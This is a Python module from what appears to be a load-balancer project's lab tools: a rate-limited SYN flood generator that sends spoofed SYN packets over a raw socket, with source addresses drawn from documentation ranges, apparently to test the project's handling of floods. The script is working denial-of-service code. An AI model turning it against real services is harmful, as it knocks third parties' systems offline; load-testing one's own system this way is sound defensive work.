# SPDX-License-Identifier: Apache-2.0
"""A SYN flood: SYNs of clients that are not there.

Run as ``python -m xlvs.lab.flood VIP PORT SECONDS RATE`` in a client's namespace, as root. Prints
how many it has sent. Sources are of the networks for documentation (RFC 5737, RFC 3849), so
what is answered to them goes nowhere.
"""

from __future__ import annotations

import random
import sys
import time
from collections.abc import Iterator
from ipaddress import IPv4Address, IPv6Address, ip_address

from xlvs.io.raw_socket import raw_socket
from xlvs.protocols.tcp_syn import Syn, packet

BURST = 50
"""SYNs between two looks at the clock."""

_MSS, _WINDOW = 1460, 64000
_FIRST_PORT, _LAST_PORT = 1024, 65535
_SOURCES = (int(IPv4Address("198.51.100.0")), int(IPv6Address("2001:db8::")))


def packets(vip: IPv4Address | IPv6Address, port: int, *, seed: int) -> Iterator[bytes]:
    """SYNs without end, each of another client and number."""
    chance = random.Random(seed)  # noqa: S311 - nobody has to be kept from guessing it
    v4 = isinstance(vip, IPv4Address)
    while True:
        host = chance.randrange(1, 255)
        syn = Syn(
            IPv4Address(_SOURCES[0] + host) if v4 else IPv6Address(_SOURCES[1] + host),
            vip,
            chance.randint(_FIRST_PORT, _LAST_PORT),
            port,
            chance.getrandbits(32),
            _WINDOW,
            _MSS,
        )
        yield packet(syn)


def flood(vip: IPv4Address | IPv6Address, port: int, seconds: float, rate: int) -> int:
    """Send at most ``rate`` SYNs a second; returns how many were sent."""
    sent, began = 0, time.monotonic()
    source = packets(vip, port, seed=time.monotonic_ns())
    with raw_socket(vip.version) as raw:
        while (passed := time.monotonic() - began) < seconds:
            if sent > passed * rate:
                time.sleep(sent / rate - passed)
            for _ in range(BURST):
                raw.sendto(next(source), (str(vip), 0))
            sent += BURST
    return sent


if __name__ == "__main__":
    print(flood(ip_address(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])))
